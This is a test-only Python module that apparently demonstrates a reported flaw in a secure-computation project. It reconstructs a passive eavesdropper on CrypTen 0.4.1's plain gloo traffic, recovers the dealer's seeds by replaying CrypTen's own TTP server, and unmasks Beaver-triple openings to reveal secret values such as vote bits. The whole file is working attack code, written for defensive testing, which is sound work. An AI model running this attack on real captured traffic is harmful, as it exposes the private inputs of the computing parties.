"""Test-only: the passive eavesdropper of issue 11, run on a capture.

What it does is what anyone on the wire between CrypTen members could do with
CrypTen 0.4.1's plain gloo traffic, knowing only public code:

1. split each TCP stream into gloo messages (a 48-byte preamble, then the
   buffer; the connecting side first sends its rank);
2. read the TTP requests party 0 sends the dealer (pickled dicts naming the
   function and sizes) and take every 8-byte message as a candidate seed;
3. try each assignment of candidate seeds to the parties by replaying the
   dealer (CrypTen's own `TTPServer` methods over `torch.Generator`s) and
   keeping the one whose first answer to party 0 appears on the wire;
4. with the dealer's view, every Beaver mask is known: any word w on the wire
   with w + mask small is an opened `x - mask`, so x is recovered — the
   validation squares open each vote bit.

`reconstruct` returns what it recovered (nothing, on protected links).
"""
from __future__ import annotations

import io
import itertools
import pickle
import struct
from dataclasses import dataclass, field

import numpy as np

PREAMBLE = 48                      # gloo tcp: nbytes, opcode, slot, offset, length, roffset (u64 each)
SEND_BUFFER = 1
SMALL = 1 << 20                    # |x| below this counts as a recovered (small) secret


def gloo_messages(stream: bytes) -> list[bytes] | None:
    """The buffers a gloo stream carries, or None if it is not gloo."""
    at = 0
    if len(stream) >= 8 and struct.unpack_from("<Q", stream)[0] < PREAMBLE:
        at = 8                                      # the connecting side's rank
    out = []
    while at + PREAMBLE <= len(stream):
        nbytes, opcode = struct.unpack_from("<QQ", stream, at)
        if nbytes < PREAMBLE or opcode > 8 or at + nbytes > len(stream):
            return None
        if opcode == SEND_BUFFER:
            out.append(stream[at + PREAMBLE:at + nbytes])
            at += nbytes
        else:
            at += PREAMBLE
    return out if at == len(stream) else None


class _Requests(pickle.Unpickler):
    """Reads the TTP request dicts; refuses anything but a torch.Size."""

    def find_class(self, module, name):
        if (module, name) == ("torch", "Size"):
            import torch
            return torch.Size
        raise pickle.UnpicklingError(f"{module}.{name}")


def _request(buf: bytes):
    try:
        obj = _Requests(io.BytesIO(buf)).load()
    except Exception:               # noqa: BLE001 - most buffers are not pickles
        return None
    return obj if isinstance(obj, dict) and "function" in obj and "args" in obj else None


@dataclass
class Findings:
    streams: int = 0
    gloo_streams: int = 0
    requests: list = field(default_factory=list)
    candidate_seeds: int = 0
    seeds: tuple | None = None                    # the dealer's seeds, by party, if found
    masks: list = field(default_factory=list)     # (function, plaintext mask) in the dealer's order
    recovered: list = field(default_factory=list)  # per mask: int64 values, or None where not opened

    def opened(self, length: int, values=(0, 1)) -> list[np.ndarray]:
        """Fully recovered secrets of `length` entries, each entry in `values`."""
        return [r for r in self.recovered if r is not None and len(r) == length and np.isin(r, values).all()]


def _replay(seeds, requests, record):
    """Run CrypTen's dealer over `requests` with these seeds; its answers."""
    import torch

    from dvsecure.mpc.compat import import_crypten

    ttp = import_crypten().mpc.provider.ttp_provider
    server = object.__new__(ttp.TTPServer)
    server.device = "cpu"
    server.generators = []
    for s in seeds:
        g = torch.Generator(device="cpu")
        g.manual_seed(s)
        server.generators.append(g)
    server.generators_cuda = [None] * len(seeds)
    plain = ttp.TTPServer._get_additive_PRSS

    def additive_prss(self, size, remove_rank=False):
        value = plain(self, size, remove_rank)
        if not remove_rank and record is not None:      # a plaintext mask: the sum of all parties' shares
            record.append((current[0], value.flatten().numpy().astype(np.uint64)))
        return value
    current = [None]
    answers = []
    for req in requests:
        current[0] = req["function"]
        server._get_additive_PRSS = additive_prss.__get__(server)
        answers.append(getattr(server, req["function"])(*req["args"], **req["kwargs"]))
    return answers


def reconstruct(streams: dict[tuple, bytes], world: int) -> Findings:
    f = Findings(streams=len(streams))
    buffers = []
    for stream in streams.values():
        msgs = gloo_messages(stream)
        if msgs is None:
            continue
        f.gloo_streams += 1
        buffers += msgs
    f.requests = [r for r in map(_request, buffers) if r is not None]
    candidates = sorted({struct.unpack("<q", b)[0] for b in buffers if len(b) == 8})
    f.candidate_seeds = len(candidates)
    if not f.requests or len(candidates) < world:
        return f
    wire = set(buffers)
    for seeds in itertools.permutations(candidates, world):
        first = _replay(seeds, f.requests[:1], None)[0]
        if first.numpy().tobytes() in wire:
            f.seeds = seeds
            break
    if f.seeds is None:
        return f
    _replay(f.seeds, f.requests, f.masks)
    words = np.unique(np.concatenate([np.frombuffer(b, dtype=np.uint64) for b in buffers if len(b) % 8 == 0
                                      and b]))
    for _, mask in f.masks:
        target = (np.uint64(0) - mask) - np.uint64(SMALL)         # w in [-mask - SMALL, -mask + SMALL]
        lo = np.searchsorted(words, target)
        hit = np.minimum(lo, len(words) - 1)
        x = (words[hit] + mask).view(np.int64)
        found = (lo < len(words)) & (np.abs(x) <= SMALL)
        f.recovered.append(x if found.all() else None)   # a mask that was opened in full
    return f
